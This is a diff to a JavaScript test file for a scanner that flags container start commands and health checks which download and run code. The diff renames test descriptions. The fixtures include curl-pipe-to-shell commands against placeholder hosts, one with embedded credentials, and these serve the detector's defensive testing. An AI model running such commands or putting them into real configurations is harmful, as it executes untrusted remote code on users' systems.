@@ -26,14 +26,14 @@ describe('evaluateStartCommands', () => {
       'sh',
     ],
     ['a health check', { healthcheck: ['CMD-SHELL', 'curl -s https://a.example/h | sh'] }, 'healthcheck', 'sh'],
-  ])('finds %s that runs what it downloads', (_what, config, field, runBy) => {
+  ])('reports %s that runs a download', (_what, config, field, runBy) => {
     const found = evaluateStartCommands({ ...nothing, ...config });
     expect(found).toMatchObject([
       { id: 'start-download-and-run', kind: 'supply-chain', severity: 'high', evidence: { field, runBy } },
     ]);
   });
 
-  it('keeps neither path nor password of what is fetched', () => {
+  it('contains neither path nor password of the URL', () => {
     const found = evaluateStartCommands({ ...nothing, cmd: ['sh', '-c', 'curl https://u:pw@a.example/token | sh'] });
     expect(found).toMatchObject([{ evidence: { origin: 'https://a.example' } }]);
     expect(JSON.stringify(found)).not.toMatch(/pw|token/);
@@ -45,7 +45,7 @@ describe('evaluateStartCommands', () => {
     { cmd: ['sh', '-c', 'curl -sf https://config.example/app.json -o /etc/app.json && exec app'] },
     { cmd: [], healthcheck: ['CMD-SHELL', 'curl -f http://localhost:8080/health || exit 1'] },
     { cmd: ['sh', '-c', 'wget -qO- http://localhost/ready | grep -q ok'] },
-  ])('finds nothing in %j', (config) => {
+  ])('ignores %j', (config) => {
     expect(evaluateStartCommands({ ...nothing, ...config })).toEqual([]);
   });
 
